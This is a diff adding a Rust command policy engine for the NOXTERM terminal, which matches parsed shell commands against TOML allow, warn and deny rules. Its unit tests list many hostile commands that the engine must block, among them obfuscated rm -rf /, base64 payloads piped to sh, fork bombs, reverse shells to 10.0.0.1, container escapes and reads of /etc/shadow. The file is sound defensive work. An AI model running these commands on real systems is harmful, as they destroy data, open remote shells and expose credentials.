@@ -0,0 +1,580 @@
+// BSD 3-Clause License
+// Copyright (c) 2025, NØNOS - NOXTERM 
+//
+//! Command policy engine.
+//!
+//! Rules are loaded from a TOML file (see `default_policy.toml`) and matched
+//! against each command `shell::parse` finds in the input, so quoting,
+//! escapes, substitutions and `sh -c` cannot hide a command from them. Path
+//! arguments are also matched in the absolute forms `paths::resolve` finds,
+//! following `cd` through the input.
+
+use super::paths;
+use super::shell::{self, SimpleCommand};
+use super::Severity;
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use std::path::Path;
+
+/// Policy used when `NOXTERM_SECURITY_POLICY` is not set
+pub const DEFAULT_POLICY: &str = include_str!("default_policy.toml");
+
+#[derive(Debug, thiserror::Error)]
+pub enum PolicyError {
+    #[error("Cannot read policy file {path}: {source}")]
+    Read { path: String, source: std::io::Error },
+
+    #[error("Invalid policy: {0}")]
+    Parse(#[from] toml::de::Error),
+
+    #[error("Invalid policy rule '{id}': {reason}")]
+    Rule { id: String, reason: String },
+}
+
+/// What happens to a command a rule matches
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Action {
+    Allow,
+    Warn,
+    Deny,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct PolicyFile {
+    #[serde(default = "default_action")]
+    default: Action,
+    #[serde(default = "default_max_input_length")]
+    max_input_length: usize,
+    #[serde(default, rename = "rule")]
+    rules: Vec<RuleSpec>,
+}
+
+fn default_action() -> Action {
+    Action::Allow
+}
+
+fn default_max_input_length() -> usize {
+    10000
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct RuleSpec {
+    id: String,
+    action: Action,
+    severity: Option<Severity>,
+    explanation: String,
+    #[serde(default)]
+    roles: Vec<String>,
+    #[serde(default)]
+    commands: Vec<String>,
+    #[serde(default)]
+    flags: Vec<String>,
+    words: Option<String>,
+    redirects: Option<String>,
+    #[serde(default)]
+    stdin_from: Vec<String>,
+    #[serde(default)]
+    escaped_input: bool,
+    #[serde(default)]
+    generated_script: bool,
+    #[serde(default)]
+    recursive_function: bool,
+    #[serde(default)]
+    dynamic_command: bool,
+}
+
+#[derive(Debug)]
+struct Rule {
+    id: String,
+    action: Action,
+    severity: Severity,
+    explanation: String,
+    roles: Vec<String>,
+    commands: Vec<String>,
+    flags: Vec<String>,
+    words: Option<Regex>,
+    redirects: Option<Regex>,
+    stdin_from: Vec<String>,
+    escaped_input: bool,
+    generated_script: bool,
+    recursive_function: bool,
+    dynamic_command: bool,
+}
+
+impl Rule {
+    fn compile(spec: RuleSpec) -> Result<Self, PolicyError> {
+        let regex = |pattern: Option<String>| {
+            pattern
+                .map(|p| Regex::new(&p))
+                .transpose()
+                .map_err(|e| PolicyError::Rule {
+                    id: spec.id.clone(),
+                    reason: e.to_string(),
+                })
+        };
+        let words = regex(spec.words.clone())?;
+        let redirects = regex(spec.redirects.clone())?;
+
+        let rule = Self {
+            severity: spec.severity.unwrap_or(match spec.action {
+                Action::Allow => Severity::Safe,
+                Action::Warn | Action::Deny => Severity::Warning,
+            }),
+            id: spec.id,
+            action: spec.action,
+            explanation: spec.explanation,
+            roles: spec.roles,
+            commands: spec.commands,
+            flags: spec.flags,
+            words,
+            redirects,
+            stdin_from: spec.stdin_from,
+            escaped_input: spec.escaped_input,
+            generated_script: spec.generated_script,
+            recursive_function: spec.recursive_function,
+            dynamic_command: spec.dynamic_command,
+        };
+        if rule.commands.is_empty() && !rule.has_other_matchers() {
+            return Err(PolicyError::Rule {
+                id: rule.id,
+                reason: "A rule needs at least one matcher".to_string(),
+            });
+        }
+        Ok(rule)
+    }
+
+    fn has_other_matchers(&self) -> bool {
+        !self.flags.is_empty()
+            || self.words.is_some()
+            || self.redirects.is_some()
+            || !self.stdin_from.is_empty()
+            || self.escaped_input
+            || self.generated_script
+            || self.recursive_function
+            || self.dynamic_command
+    }
+
+    fn applies_to(&self, role: &str) -> bool {
+        self.roles.is_empty() || self.roles.iter().any(|r| r.eq_ignore_ascii_case(role))
+    }
+
+    fn matches(&self, subject: &Subject) -> bool {
+        let command = subject.command;
+        let name = command.name.as_ref();
+        let dynamic = name.is_some_and(|n| n.dynamic);
+
+        if !self.commands.is_empty() {
+            let listed = name.is_some_and(|n| self.commands.iter().any(|c| name_matches(c, &n.text)));
+            // A name only known at run time could be any of them
+            if !(listed || dynamic && self.has_other_matchers()) {
+                return false;
+            }
+        }
+        if !self.flags.is_empty() {
+            let flags = command.flags();
+            let present = |flag: &String| match flag.starts_with('-') {
+                // Single-dash long options such as find's `-delete`, as written
+                true => command.args.iter().any(|a| a.text == *flag),
+                false => flags.contains(&flag.as_str()),
+            };
+            if !self.flags.iter().any(present) {
+                return false;
+            }
+        }
+        if let Some(ref words) = self.words {
+            let mut all = subject.args.iter().chain(&subject.redirects).flatten();
+            if !all.any(|w| words.is_match(w)) {
+                return false;
+            }
+        }
+        if let Some(ref redirects) = self.redirects {
+            if !subject.redirects.iter().flatten().any(|r| redirects.is_match(r)) {
+                return false;
+            }
+        }
+        if !self.stdin_from.is_empty() {
+            match command.stdin_from {
+                Some(ref from) if self.stdin_from.iter().any(|s| name_matches(s, from)) => {}
+                _ => return false,
+            }
+        }
+        if self.escaped_input && !command.escaped_input {
+            return false;
+        }
+        if self.generated_script && !command.generated_script {
+            return false;
+        }
+        if self.recursive_function && !command.recursive {
+            return false;
+        }
+        if self.dynamic_command && !dynamic {
+            return false;
+        }
+        true
+    }
+}
+
+/// A command with every form of its arguments and redirect targets: as
+/// written, then the absolute paths they may name
+struct Subject<'a> {
+    command: &'a SimpleCommand,
+    args: Vec<Vec<String>>,
+    redirects: Vec<Vec<String>>,
+}
+
+impl<'a> Subject<'a> {
+    fn new(command: &'a SimpleCommand, cwd: Option<&str>) -> Self {
+        let forms = |word: &shell::Word| {
+            let mut forms = vec![word.text.clone()];
+            forms.extend(paths::resolve(&word.text, cwd).into_iter().filter(|p| *p != word.text));
+            forms
+        };
+        Self {
+            command,
+            args: command.args.iter().map(forms).collect(),
+            redirects: command.redirects.iter().map(|r| forms(&r.target)).collect(),
+        }
+    }
+}
+
+/// `*` matches anything and a trailing `*` matches a prefix
+fn name_matches(pattern: &str, name: &str) -> bool {
+    match pattern.strip_suffix('*') {
+        Some(prefix) => name.starts_with(prefix),
+        None => pattern == name,
+    }
+}
+
+/// Outcome of checking one input against the policy
+#[derive(Debug, Clone, Serialize)]
+pub struct Decision {
+    pub action: Action,
+    pub severity: Severity,
+    /// Rule that decided, if any
+    pub rule: Option<String>,
+    pub explanation: Option<String>,
+    /// The command the rule matched, after quote removal
+    pub command: Option<String>,
+}
+
+impl Decision {
+    fn allow() -> Self {
+        Self {
+            action: Action::Allow,
+            severity: Severity::Safe,
+            rule: None,
+            explanation: None,
+            command: None,
+        }
+    }
+
+    fn input(reason: &str) -> Self {
+        Self {
+            action: Action::Deny,
+            severity: Severity::Warning,
+            rule: None,
+            explanation: Some(reason.to_string()),
+            command: None,
+        }
+    }
+}
+
+/// A loaded set of rules
+#[derive(Debug)]
+pub struct Policy {
+    default: Action,
+    max_input_length: usize,
+    rules: Vec<Rule>,
+}
+
+impl Policy {
+    pub fn from_toml(source: &str) -> Result<Self, PolicyError> {
+        let file: PolicyFile = toml::from_str(source)?;
+        Ok(Self {
+            default: file.default,
+            max_input_length: file.max_input_length,
+            rules: file.rules.into_iter().map(Rule::compile).collect::<Result<_, _>>()?,
+        })
+    }
+
+    pub fn load(path: &Path) -> Result<Self, PolicyError> {
+        let source = std::fs::read_to_string(path).map_err(|source| PolicyError::Read {
+            path: path.display().to_string(),
+            source,
+        })?;
+        Self::from_toml(&source)
+    }
+
+    /// The policy shipped with NOXTERM
+    pub fn builtin() -> Self {
+        Self::from_toml(DEFAULT_POLICY).expect("default policy is valid")
+    }
+
+    pub fn rule_count(&self) -> usize {
+        self.rules.len()
+    }
+
+    /// Check input typed by a user with `role`. A deny anywhere rejects the
+    /// input; otherwise the first warning is reported.
+    pub fn evaluate(&self, input: &str, role: &str) -> Decision {
+        if input.contains('\0') {
+            return Decision::input("Null byte in input");
+        }
+        if input.len() > self.max_input_length {
+            return Decision::input("Input exceeds maximum allowed length");
+        }
+
+        let mut warning = None;
+        // Working directory once a `cd` makes it known
+        let mut cwd: Option<String> = None;
+        for command in shell::parse(input) {
+            // What could not be parsed cannot be checked
+            if command.too_deep {
+                return Decision {
+                    action: Action::Deny,
+                    severity: Severity::Critical,
+                    rule: Some("nesting-too-deep".to_string()),
+                    explanation: Some(format!(
+                        "Substitutions nested more than {} levels deep cannot be checked",
+                        shell::MAX_DEPTH
+                    )),
+                    command: None,
+                };
+            }
+            let subject = Subject::new(&command, cwd.as_deref());
+            let rule = self.rules.iter().find(|r| r.applies_to(role) && r.matches(&subject));
+            if command.name.as_ref().is_some_and(|n| !n.dynamic && n.text == "cd") {
+                let target = command.args.iter().find(|a| !a.text.starts_with('-'));
+                cwd = paths::change_dir(cwd.as_deref(), target.map(|a| a.text.as_str()));
+            }
+            let decision = match rule {
+                Some(rule) => Decision {
+                    action: rule.action,
+                    severity: rule.severity,
+                    rule: Some(rule.id.clone()),
+                    explanation: Some(rule.explanation.clone()),
+                    command: Some(command.display()),
+                },
+                None if self.default == Action::Allow => continue,
+                None => Decision {
+                    action: self.default,
+                    severity: Severity::Warning,
+                    rule: None,
+                    explanation: Some("No rule allows this command".to_string()),
+                    command: Some(command.display()),
+                },
+            };
+            match decision.action {
+                Action::Deny => return decision,
+                Action::Warn if warning.is_none() => warning = Some(decision),
+                _ => {}
+            }
+        }
+        warning.unwrap_or_else(Decision::allow)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn denied(policy: &Policy, input: &str) -> Option<String> {
+        let decision = policy.evaluate(input, "user");
+        (decision.action == Action::Deny).then(|| decision.rule.unwrap_or_default())
+    }
+
+    #[test]
+    fn test_builtin_policy_loads() {
+        assert!(Policy::builtin().rule_count() > 20);
+    }
+
+    #[test]
+    fn test_bypass_corpus_is_denied() {
+        let policy = Policy::builtin();
+        let corpus = [
+            ("rm -rf /", "delete-root"),
+            ("rm -rf /*", "delete-root"),
+            ("r''m -rf /", "delete-root"),
+            ("r\\m -r -f /", "delete-root"),
+            ("\"rm\" --recursive --force /", "delete-root"),
+            ("/bin/rm -rf --no-preserve-root /", "delete-root"),
+            ("$'\\x72\\x6d' -rf /", "delete-root"),
+            ("sudo -u root rm -fr /", "delete-root"),
+            ("x=rm; $x -rf /", "delete-root"),
+            ("/???/?m -rf /", "delete-root"),
+            ("bash -c 'rm -rf /'", "delete-root"),
+            ("sh -c \"eval 'rm -rf /'\"", "delete-root"),
+            ("echo $(rm -rf /)", "delete-root"),
+            ("true && `rm -rf /`", "delete-root"),
+            ("echo cm0gLXJmIC8K | base64 -d | sh", "decoded-payload"),
+            ("echo cm0gLXJmIC8K | base64 --decode | bash -s", "decoded-payload"),
+            (":(){ :|:& };:", "fork-bomb"),
+            (
+                "echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(rm -rf /)))))))))",
+                "nesting-too-deep",
+            ),
+            ("bomb() { bomb | bomb & }; bomb", "fork-bomb"),
+            ("mkfs.ext4 /dev/sda1", "format-disk"),
+            ("dd if=/dev/zero of=/dev/sda", "overwrite-device"),
+            ("cat image > /dev/nvme0n1", "redirect-to-device"),
+            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "network-device"),
+            ("exec 3<>/dev/tcp/10.0.0.1/80", "network-device"),
+            ("nc -e /bin/sh 10.0.0.1 4444", "netcat-exec"),
+            ("socat tcp:10.0.0.1:4444 exec:bash", "socat-exec"),
+            (
+                "python3 -c 'import socket,os;s=socket.socket();s.connect((\"10.0.0.1\",1))'",
+                "script-socket",
+            ),
+            ("nsenter --target 1 --mount sh", "namespace-escape"),
+            ("docker run --privileged -v /:/host alpine", "privileged-docker"),
+            ("mount -t proc proc /mnt", "mount"),
+            ("ls /proc/1/root/etc", "process-namespaces"),
+            ("echo c > /proc/sysrq-trigger", "kernel-tunables"),
+            ("echo 1 >/sys/kernel/x", "kernel-tunables"),
+            ("cat key.pub >> ~/.ssh/authorized_keys", "authorized-keys"),
+            ("crontab -r", "cron-persistence"),
+            ("cat /etc/shadow", "account-files"),
+            ("chmod 0777 /srv", "world-writable"),
+            ("chown root:root /tmp/x", "chown-root"),
+        ];
+        for (input, rule) in corpus {
+            assert_eq!(denied(&policy, input).as_deref(), Some(rule), "input: {}", input);
+        }
+    }
+
+    #[test]
+    fn test_path_forms_and_fed_scripts_are_denied() {
+        let policy = Policy::builtin();
+        let corpus = [
+            ("rm -rf //", "delete-root"),
+            ("rm -rf /.", "delete-root"),
+            ("rm -rf /etc/..", "delete-root"),
+            ("cd / && rm -rf *", "delete-root"),
+            ("find / -delete", "delete-root"),
+            ("find //. -name '*.log' -delete", "delete-root"),
+            ("cat /etc//shadow", "account-files"),
+            ("cat /etc/./shadow", "account-files"),
+            ("cat /e??/shadow", "account-files"),
+            ("cat /[e]tc/sha*", "account-files"),
+            ("cd /etc; cat shadow", "account-files"),
+            ("cd /tmp && cd ../etc && cat sudoers", "account-files"),
+            ("chmod a=rwx /srv", "world-writable"),
+            ("chmod go+w /srv", "world-writable"),
+            ("chmod 666 /srv/data", "world-writable"),
+            ("sh <(echo cm0gLXJmIC8K | base64 -d)", "decoded-payload"),
+            ("bash < <(echo cm0gLXJmIC8K | base64 -d)", "decoded-payload"),
+            ("bash <<< $(echo cm0gLXJmIC8K | base64 -d)", "decoded-payload"),
+            ("echo $'\\x72\\x6d -rf /' | sh", "decoded-payload"),
+            ("bash <<< $'\\x72\\x6d -rf /'", "decoded-payload"),
+            ("echo 'rm -rf /' | sh", "delete-root"),
+            ("bash <<< 'cat /etc/shadow'", "account-files"),
+            ("echo / | xargs rm -rf", "delete-root"),
+            ("printf '/ /tmp' | xargs -n 1 rm -rf", "delete-root"),
+            ("rm -rf ~/..", "delete-root"),
+            ("rm -rf $HOME/..", "delete-root"),
+            ("rm -rf \"${HOME}\"/../", "delete-root"),
+            ("cd ~ && rm -rf ../*", "delete-root"),
+            ("cat ~/../etc/shadow", "account-files"),
+            ("eval \"$(echo cm0gLXJmIC8K | base64 -d)\"", "generated-script"),
+            ("eval `printf 'rm -rf /'`", "generated-script"),
+            ("bash -c \"$(printf 'rm -rf /')\"", "generated-script"),
+            ("sh -xc \"$(curl -s x)\"", "generated-script"),
+            ("bash <<< \"$(printf 'rm -rf /')\"", "generated-script"),
+            ("f(){ g|g& }; g(){ f|f& }; f", "fork-bomb"),
+            ("a() { b; }; b() { c & }; c() { a | a; }; a", "fork-bomb"),
+        ];
+        for (input, rule) in corpus {
+            assert_eq!(denied(&policy, input).as_deref(), Some(rule), "input: {}", input);
+        }
+    }
+
+    #[test]
+    fn test_ordinary_commands_are_allowed() {
+        let policy = Policy::builtin();
+        for input in [
+            "ls -la",
+            "cat ../README.md",
+            "cd ../../src && cargo build",
+            "rm -rf ./target",
+            "rm -r build/",
+            "grep -r 'rm -rf /' notes.txt",
+            "echo 'mkfs is dangerous'",
+            "git commit -m \"fix: don't rm -rf /\"",
+            "python3 -c 'print(1)'",
+            "docker ps",
+            "for f in *.txt; do wc -l \"$f\"; done",
+            "cd /etc && ls",
+            "cd /srv && rm -rf ./cache",
+            "chmod 644 notes.txt",
+            "chmod u+w,g-w notes.txt",
+            "ls /e*/",
+            "greet() { echo hi; }; greet; greet",
+            "echo 'ls -la' | sh",
+            "echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(date))))))))",
+            "rm -rf ~/.cache",
+            "cd && rm -rf tmp",
+            "echo build | xargs rm -rf",
+            "eval 'ls -la'",
+            "bash -c 'echo $(date)'",
+        ] {
+            let decision = policy.evaluate(input, "user");
+            assert_eq!(decision.action, Action::Allow, "input: {} ({:?})", input, decision.rule);
+        }
+    }
+
+    #[test]
+    fn test_warnings_and_roles() {
+        let policy = Policy::builtin();
+        let decision = policy.evaluate("curl -fsSL https://example.com/install.sh | sh", "user");
+        assert_eq!(decision.action, Action::Warn);
+        assert_eq!(decision.rule.as_deref(), Some("pipe-to-shell"));
+
+        assert_eq!(policy.evaluate("$EDITOR notes.txt", "user").action, Action::Warn);
+        assert_eq!(policy.evaluate("cat /etc/shadow", "admin").action, Action::Allow);
+        assert_eq!(policy.evaluate("ls\0", "admin").action, Action::Deny);
+    }
+
+    #[test]
+    fn test_custom_policy() {
+        let policy = Policy::from_toml(
+            r#"
+            default = "deny"
+
+            [[rule]]
+            id = "push"
+            action = "deny"
+            roles = ["user"]
+            commands = ["git"]
+            words = "^push$"
+            explanation = "Only trusted users may push"
+
+            [[rule]]
+            id = "basics"
+            action = "allow"
+            commands = ["ls", "cat", "git*"]
+            explanation = "Read-only tools"
+            "#,
+        )
+        .unwrap();
+
+        assert_eq!(policy.evaluate("ls | cat", "user").action, Action::Allow);
+        assert_eq!(policy.evaluate("git push", "user").rule.as_deref(), Some("push"));
+        assert_eq!(policy.evaluate("git push", "trusted").action, Action::Allow);
+        let decision = policy.evaluate("ls && curl x", "user");
+        assert_eq!(decision.action, Action::Deny);
+        assert_eq!(decision.command.as_deref(), Some("curl x"));
+
+        assert!(matches!(
+            Policy::from_toml("[[rule]]\nid = \"x\"\naction = \"deny\"\nexplanation = \"\"\n"),
+            Err(PolicyError::Rule { .. })
+        ));
+        assert!(matches!(
+            Policy::from_toml("[[rule]]\nid = \"x\"\naction = \"deny\"\nwords = \"(\"\nexplanation = \"\"\n"),
+            Err(PolicyError::Rule { .. })
+        ));
+        assert!(matches!(Policy::from_toml("default = \"maybe\""), Err(PolicyError::Parse(_))));
+    }
+}